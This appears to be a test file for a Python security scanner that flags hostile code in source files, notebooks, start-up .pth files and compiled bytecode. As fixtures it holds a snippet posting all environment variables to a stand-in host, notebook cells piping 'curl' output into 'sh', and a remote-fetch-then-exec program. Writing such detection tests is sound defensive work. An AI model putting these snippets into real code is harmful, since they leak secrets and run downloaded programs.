"""Files as strangers leave them: encodings, notebooks, start-up files, compiled files, and what is no Python at all."""

import json

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ringfence.audit.code.project import join
from ringfence.audit.code.python import read
from ringfence.audit.code.summary import Module

STEAL = "import os, requests\nrequests.post('https://collector.example', json=dict(os.environ))\n"
STOLEN = "code/environment-sent"


def rules(module: Module) -> set[str]:
    """What was found."""
    return {item.rule for item in module.findings}


@pytest.mark.parametrize(
    ("path", "data"),
    [
        ("a.py", STEAL.encode()),
        ("a.pyw", STEAL.encode()),
        ("a.py", b"\xef\xbb\xbf" + STEAL.encode()),
        ("a.py", STEAL.encode("utf-16")),
        ("a.py", b"# -*- coding: latin-1 -*-\n# \xe9\n" + STEAL.encode()),
        ("a.py", b"# coding: no-such-encoding\n" + STEAL.encode()),
        ("a.py", STEAL.replace("\n", "\r\n").encode()),
        ("a.py", b"\0" + STEAL.encode()),
        ("a.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["%time\n", STEAL]}]}).encode()),
        ("sitecustomize.py", STEAL.encode()),
        (
            "lib/x.pth",
            (b"import os, requests; requests.post('https://collector.example', json=dict(os.environ))"),
        ),
    ],
)
def test_whatever_python_runs_is_read(path: str, data: bytes) -> None:
    assert STOLEN in rules(read(path, data))


def test_what_python_does_not_run_is_not_read() -> None:
    assert read("a.pyi", STEAL.encode()) == Module("a.pyi")
    assert not read("a.pth", b"# import os\n/usr/lib/somewhere\n").findings


@pytest.mark.parametrize(
    ("cell", "rule"),
    [
        ("!pip install helper", "code/runtime-install"),
        ("x = !curl http://collector.example/a | sh", "code/downloaded-program"),
        ("%%bash\ncurl http://collector.example/a | sh", "code/downloaded-program"),
    ],
)
def test_commands_of_a_notebook_are_commands(cell: str, rule: str) -> None:
    book = json.dumps({"cells": [{"cell_type": "markdown", "source": "!x"}, {"cell_type": "code", "source": cell}]})
    assert rule in rules(read("n.ipynb", book.encode()))


@pytest.mark.parametrize(
    ("path", "data"),
    [
        ("a.py", b"def f(:\n"),
        ("a.py", b"(" * 5000 + b")" * 5000),
        ("a.py", b"-" * 100_000 + b"1"),
        ("a.ipynb", b"{"),
        ("a.ipynb", b"[" * 100_000),
        ("x/__pycache__/a.cpython-311.pyc", b"\0"),
    ],
)
def test_what_cannot_be_read_is_said_and_not_passed(path: str, data: bytes) -> None:
    module = read(path, data)
    assert module.unanswered or module.findings


def test_a_long_sum_is_read_to_its_end() -> None:
    text = "x = " + " + ".join(f"'{letter}'" for letter in "exec" * 500) + "\n" + STEAL
    assert STOLEN in rules(read("a.py", text.encode()))


def test_a_deep_function_costs_itself_and_not_the_file() -> None:
    deep = "def f():\n    return " + "(lambda: " * 80 + "1" + ")" * 80 + "\n"
    assert STOLEN in rules(read("a.py", (deep + STEAL).encode()))


@pytest.mark.parametrize("char", ["a", " ", "'", "(", "=", ".", "\\", "0", "/", "{", "\t", "#"])
def test_a_line_of_one_character_is_read_in_bounded_time(char: str) -> None:
    read("a.py", (char * 300_000).encode())
    read("a.py", f'x = "{char * 300_000}"'.encode())


def test_a_compiled_file_is_judged_with_its_source() -> None:
    compiled = b"\0" * 16 + b"\xe3requests exec"
    same = [read("b/__pycache__/a.cpython-311.pyc", compiled), read("b/a.py", b"import requests\nexec('1')\n")]
    more = [same[0], read("b/a.py", b"import requests\n")]
    none = [same[0]]
    assert [item.rule for item in join(same)] == []
    assert [item.rule for item in join(more)] == ["code/bytecode-differs"]
    assert [item.rule for item in join(none)] == ["code/compiled-without-source"]


@given(st.binary(max_size=300))
def test_no_bytes_break_the_reader(data: bytes) -> None:
    for path in ("a.py", "a.ipynb", "a.pth", "a.pyc", "__pycache__/a.pyc"):
        assert read(path, data).path == path


ATOMS = st.sampled_from(
    [
        "requests.post",
        "exec",
        "os.environ",
        "x",
        "f",
        "self.k",
        "'https://q.example'",
        "b'aa'",
        "1",
        "-1",
        "[1, 2]",
        "{'a': x}",
        "(x := 2)",
    ]
)


@given(
    st.lists(
        st.tuples(
            ATOMS, st.sampled_from(["+", "%", "/", "[{}]", "({})", ".{}", "[::{}]", "if x else", "and", "^"]), ATOMS
        ),
        max_size=8,
    )
)
def test_no_program_breaks_the_reader(parts: list[tuple[str, str, str]]) -> None:
    lines = []
    for left, between, right in parts:
        text = left + between.format(right) if "{}" in between else f"{left} {between} {right}"
        lines.append(f"x = {text}")
    text = "def f(x, *k):\n    " + "\n    ".join(lines or ["pass"]) + "\n    return x\n" + "\n".join(lines)
    module = read("a.py", text.encode())
    assert msgspec.msgpack.decode(msgspec.msgpack.encode(module), type=Module) == module
    list(join([module]))


HOSTILE = {
    "a chain of classes": "".join(
        f"class A{n}(A{n - 1}):\n    def m(self): return self.x + self.y\n" for n in range(1, 700)
    ),
    "a web of classes": "".join(
        f"class B{n}({', '.join(f'B{m}' for m in range(max(0, n - 20), n)) or 'object'}):\n    pass\n"
        for n in range(150)
    )
    + "B149().go(SECRET)\n",
    "wrapped functions": "def d(f):\n    def w(*a):\n        return f(*a)\n    return w\n"
    + "".join(f"@d\ndef f{n}(x): return f{n - 1}(x)\n" for n in range(1, 800))
    + "".join(f"f{n}(API_SECRET)\n" for n in range(1, 800)),
    "a text that doubles": "x = 'a'\n" + "x += x\n" * 200,
    "lists in lists": "x = " + "[" * 60 + "n for n in range(2000)" + "] * 2000" * 60 + "\n",
    "every combination": "x = [[[a + b for a in range(2000)] for b in range(2000)] for c in range(2000)]\n",
    "urls of urls": "".join(
        f"def u{n}(a, b): return requests.post(a + b, json=SECRET), u{n - 1}(a + b, b + a)\n" for n in range(1, 300)
    ),
}


_LONG = ("every combination",)  # uses up all the steps that a file may take


@pytest.mark.parametrize(
    "text",
    [pytest.param(text, id=name, marks=pytest.mark.deep if name in _LONG else ()) for name, text in HOSTILE.items()],
)
def test_a_program_made_to_take_long_does_not(text: str) -> None:
    module = read("a.py", ("import requests\n" + text).encode())
    list(join([module, read("b.py", text.encode())]))


def test_a_long_file_hides_nothing_behind_another_name() -> None:
    padding = "".join(f"def p{n}():\n    return {n}\n" for n in range(1000))
    text = f"import requests\n{padding}p = requests.get\nx = exec\nclass A:\n    def go(self):\n        x(p('https://q.example').text)\n"
    assert "code/remote-code" in rules(read("a.py", text.encode()))
